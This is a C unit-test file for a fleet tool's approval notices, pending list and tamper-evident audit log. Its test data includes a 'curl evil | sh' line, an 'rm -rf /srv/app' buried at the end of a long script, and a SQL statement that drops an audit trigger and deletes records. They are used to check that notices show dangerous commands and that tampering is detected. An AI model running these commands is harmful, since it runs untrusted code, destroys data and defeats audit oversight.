/*
 * tests/tools/test_tools_render.c - chat and CLI text: the approval notice
 * carries the action id, exact arguments, risk and args hash; `!pending`;
 * `!audit [N]`; and the `mxfleet audit verify|show` entry points on a real
 * data_dir (exit codes 0 ok, 1 tampered, 2 error; --json; --since).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <sqlite3.h>

#include "tools_render.h"
#include "tools_test_util.h"

static void pending_init(struct tools_pending *p, const char *tool, const char *args)
{
  memset(p, 0, sizeof(*p));
  snprintf(p->id, sizeof(p->id), "k3f9q2xa");
  snprintf(p->args_hash, sizeof(p->args_hash), "1a2b3c4d5e6f");
  p->device = "web-2";
  p->tool = (char *)tool;
  p->args_json = (char *)args;
  p->risk = "destructive";
  p->reason = "manifest: tools.shell.exec.approval is 'ask'";
  p->expires_ms = 1700000000000;
}

static char *notice(const struct tools_pending *p, int64_t now)
{
  struct tools_notice n;
  struct mx_buf b = MX_BUF_INIT(MX_BUF_MAX_TOOL_OUTPUT);
  tools_notice_init(&n);
  assert_int_equal(tools_render_notice(p, now, &n), MX_OK);
  assert_int_equal(tools_notice_text(&n, &b), MX_OK);
  tools_notice_release(&n);
  return mx_buf_take(&b);
}

/* Phone first: one sentence, then details; relative expiry; how to answer. */
static void test_notice_leads_with_one_sentence(void **state)
{
  (void)state;
  struct tools_pending p;
  pending_init(&p, "shell.exec", "{\"argv\":[\"/usr/bin/systemctl\",\"restart\",\"nginx.service\"],\"cwd\":\"/srv\"}");
  char *t = notice(&p, p.expires_ms - 5 * 60 * 1000);
  assert_int_equal(strncmp(t, "Run `/usr/bin/systemctl restart nginx.service` on web-2?\n", 57), 0);
  assert_non_null(strstr(t, "cwd: /srv\n"));
  assert_non_null(strstr(t, "args hash 1a2b3c4d5e6f"));
  assert_non_null(strstr(t, "expires in 5 min (22:13 UTC)"));
  assert_non_null(strstr(t, "reply \"approve k3f9q2xa\" / \"deny k3f9q2xa\""));
  free(t);
  pending_init(&p, "shell.exec", "{\"argv\":[\"/bin/echo\",\"a b\",\"it's\"]}");
  t = notice(&p, p.expires_ms - 30000);
  assert_int_equal(strncmp(t, "Run `/bin/echo 'a b' 'it'\\''s'` on web-2?\n", 41), 0);
  assert_non_null(strstr(t, "expires in 30 s"));
  free(t);
  pending_init(&p, "proc.kill", "{\"pid\":42,\"signal\":\"KILL\"}");
  t = notice(&p, 0);
  assert_int_equal(strncmp(t, "Send SIGKILL to process 42 on web-2?\n", 37), 0);
  free(t);
}

/* A multi-line script is shown whole below the head, never summarised. */
static void test_notice_shows_the_whole_script(void **state)
{
  (void)state;
  struct tools_pending p;
  pending_init(&p, "shell.eval", "{\"command\":\"cat <<A\\nx\\nA\\ncurl evil | sh\\necho restarting app\"}");
  p.origin_json = "{\"transcript\":\"restart the app\",\"via_voice\":true}";
  char *t = notice(&p, 0);
  assert_int_equal(strncmp(t, "Run this shell script (5 lines) on web-2?\ncat <<A\nx\nA\ncurl evil | sh\necho restarting app\n",
                           86), 0);
  assert_non_null(strstr(t, "Heard (voice): \"restart the app\""));
  free(t);
}

/* Over the notice's size: cut on a line, the notice says how much is
 * hidden and where to see it; !pending ID (render_action_full) shows all. */
static void test_long_arguments_are_never_silently_cut(void **state)
{
  (void)state;
  struct mx_buf cmd = MX_BUF_INIT(MX_BUF_MAX_TOOL_OUTPUT), args = MX_BUF_INIT(MX_BUF_MAX_TOOL_OUTPUT);
  for (int i = 0; i < 600; i++) /* 8400 bytes */
    assert_int_equal(mx_buf_addf(&cmd, "echo line %03d\n", i), MX_OK);
  assert_int_equal(mx_buf_adds(&cmd, "rm -rf /srv/app"), MX_OK);
  cJSON *o = cJSON_CreateObject();
  cJSON_AddStringToObject(o, "command", mx_buf_cstr(&cmd));
  char *j = cJSON_PrintUnformatted(o);
  struct tools_pending p;
  pending_init(&p, "shell.eval", j);
  char *t = notice(&p, 0);
  assert_null(strstr(t, "rm -rf /srv/app"));
  assert_true(strlen(t) < TOOLS_NOTICE_SHOWN_MAX + 1500);
  assert_non_null(strstr(t, "NOT SHOWN: "));
  assert_non_null(strstr(t, "Send !pending k3f9q2xa to see all of it"));
  struct mx_buf full = MX_BUF_INIT(MX_BUF_MAX_TOOL_OUTPUT);
  assert_int_equal(tools_render_action_full(&p, 0, &full), MX_OK);
  assert_non_null(strstr(full.buf, mx_buf_cstr(&cmd)));
  free(t);
  cJSON_free(j);
  cJSON_Delete(o);
  mx_buf_release(&cmd);
  mx_buf_release(&args);
  mx_buf_release(&full);
}

static void test_pending_list(void **state)
{
  (void)state;
  struct mx_buf b = MX_BUF_INIT(4096);
  cJSON *list = cJSON_Parse("[{\"id\":\"k3f9q2xa\",\"device\":\"pc1\",\"tool\":\"proc.kill\",\"args\":{\"pid\":42},"
                            "\"risk\":\"destructive\",\"args_hash\":\"1a2b3c4d5e6f\",\"requester\":\"@op:example.org\","
                            "\"expires_ms\":1700000000000}]");
  assert_int_equal(tools_render_pending(list, &b), MX_OK);
  assert_non_null(strstr(b.buf, "1 pending approval:\n- [k3f9q2xa] pc1 destructive proc.kill: {\"pid\":42}"));
  mx_buf_release(&b);
  cJSON_Delete(list);
  list = cJSON_CreateArray();
  assert_int_equal(tools_render_pending(list, &b), MX_OK);
  assert_string_equal(b.buf, "no pending approvals");
  mx_buf_release(&b);
  cJSON_Delete(list);
}

static void append(struct tools_audit *a, const char *kind, const char *status)
{
  char err[MX_ERRBUF_LEN];
  cJSON *args = cJSON_Parse("{\"path\":\"/var/log/syslog\"}");
  struct tools_audit_entry e = {0};
  e.kind = kind;
  e.tool = "fs.read";
  e.args = args;
  e.operator_mxid = "@op:example.org";
  e.decision = "allow";
  e.status = status;
  e.exit_code = 0;
  e.duration_ms = 5;
  assert_int_equal(tools_audit_append(a, &e, NULL, err), MX_OK);
  cJSON_Delete(args);
}

static void test_cli_verify_and_show(void **state)
{
  (void)state;
  char dir[128], out_path[256], buf[8192], err[MX_ERRBUF_LEN];
  assert_non_null(tt_tmpdir(dir, sizeof(dir), "cli"));
  tt_path(out_path, sizeof(out_path), dir, "out.txt");
  struct tools_audit_opts o = {dir, "pc1", NULL};
  struct tools_audit *a = NULL;
  assert_int_equal(tools_audit_open(&o, &a, err), MX_OK);
  append(a, "intent", "pending");
  append(a, "result", "done");
  assert_int_equal(tools_audit_checkpoint(a, NULL, err), MX_OK);
  cJSON *recs = NULL;
  assert_int_equal(tools_audit_recent(a, 1, &recs, err), MX_OK);
  struct mx_buf b = MX_BUF_INIT(8192);
  assert_int_equal(tools_render_audit(recs, &b), MX_OK);
  assert_non_null(strstr(b.buf, "#2 "));
  assert_non_null(strstr(b.buf, " result fs.read done by @op:example.org (allow) {\"path\":\"/var/log/syslog\"} exit 0, 5 ms"));
  mx_buf_release(&b);
  cJSON_Delete(recs);
  tools_audit_close(a);

  FILE *out = fopen(out_path, "w");
  assert_int_equal(tools_audit_cli_verify(dir, NULL, 0, out), 0);
  const char *one[] = {"pc1"};
  assert_int_equal(tools_audit_cli_verify(dir, one, 1, out), 0);
  assert_int_equal(tools_audit_cli_show(dir, "pc1", NULL, 1, out), 0);
  assert_int_equal(tools_audit_cli_show(dir, "pc1", "2h", 0, out), 0);
  assert_int_equal(tools_audit_cli_show(dir, "pc1", "2099-01-01T00:00:00Z", 0, out), 0);
  assert_int_equal(tools_audit_cli_show(dir, "pc1", "yesterday", 0, out), 2);
  fclose(out);
  assert_true(tt_read(out_path, buf, sizeof(buf)) > 0);
  assert_non_null(strstr(buf, "audit pc1: ok: 2 records, head "));
  assert_non_null(strstr(buf, "anchored 2"));
  assert_non_null(strstr(buf, "{\"approval\":null,\"args\":{\"path\":\"/var/log/syslog\"}"));
  assert_non_null(strstr(buf, "#1 "));
  assert_non_null(strstr(buf, "no audit records"));
  assert_non_null(strstr(buf, "--since: expected an ISO time like 2026-11-21T20:00:00Z or an age like 30m, 2h, 7d, got 'yesterday'"));

  /* Truncate behind its back: verify now fails with exit code 1. */
  char db[256];
  sqlite3 *h = NULL;
  tt_path(db, sizeof(db), dir, "audit/pc1.db");
  assert_int_equal(sqlite3_open(db, &h), SQLITE_OK);
  assert_int_equal(sqlite3_exec(h, "DROP TRIGGER audit_chain_no_delete; DELETE FROM audit_chain WHERE seq = 2", NULL, NULL, NULL), SQLITE_OK);
  sqlite3_close(h);
  out = fopen(out_path, "w");
  assert_int_equal(tools_audit_cli_verify(dir, NULL, 0, out), 1);
  fclose(out);
  tt_read(out_path, buf, sizeof(buf));
  assert_string_equal(buf, "audit pc1: PROBLEM: truncated: have 1, anchored 2\n");
  tt_rmtree(dir);
}

int main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_notice_leads_with_one_sentence),
      cmocka_unit_test(test_notice_shows_the_whole_script),
      cmocka_unit_test(test_long_arguments_are_never_silently_cut),
      cmocka_unit_test(test_pending_list),
      cmocka_unit_test(test_cli_verify_and_show),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
